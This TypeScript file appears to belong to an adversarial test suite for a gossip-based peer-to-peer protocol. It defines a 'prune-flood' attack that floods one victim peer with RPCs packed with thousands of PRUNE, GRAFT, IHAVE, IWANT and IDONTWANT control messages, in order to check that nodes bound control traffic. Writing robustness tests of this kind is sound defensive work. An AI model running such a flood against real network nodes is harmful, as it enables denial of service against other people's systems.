/**
 * Control messages in floods, to one agent: 1,000 times PRUNE in an RPC, 50 such RPCs a second, each with GRAFT,
 * IHAVE, IWANT and IDONTWANT of ids that nobody has. It costs 4 MB a second. Control messages and bytes a peer must
 * be bounded before they are acted on.
 */
import type { Attack, Enemy } from "../attack.ts";

const PRUNES = 1_000;
const IDS = 100;
const TICK_MS = 20;

export const pruneFlood: Attack = {
  name: "prune-flood",
  about: "50 RPCs a second with 1,000 PRUNEs and other control messages each",
  cutOff: false,
  does: ["rpcs"],
  async run(enemy) {
    const peer = await enemy.peer();
    const links = enemy.links(peer);
    const topicID = peer.names.messages;
    await enemy.every(TICK_MS, () =>
      links.each([enemy.victim()], async (link) => {
        const messageIDs = ids(enemy);
        await link.sendControl({
          prune: Array.from({ length: PRUNES }, () => ({ topicID, peers: [], backoff: 1 })),
          graft: [{ topicID }],
          ihave: [{ topicID, messageIDs }],
          iwant: [{ messageIDs }],
          idontwant: [{ messageIDs }],
        });
        enemy.count("rpcs");
      }),
    );
  },
};

function ids({ random }: Enemy): Uint8Array[] {
  const stem = random.bytes(16);
  return Array.from({ length: IDS }, (_, i) => Uint8Array.of(...stem, 0, 0, i >> 8, i & 0xff));
}
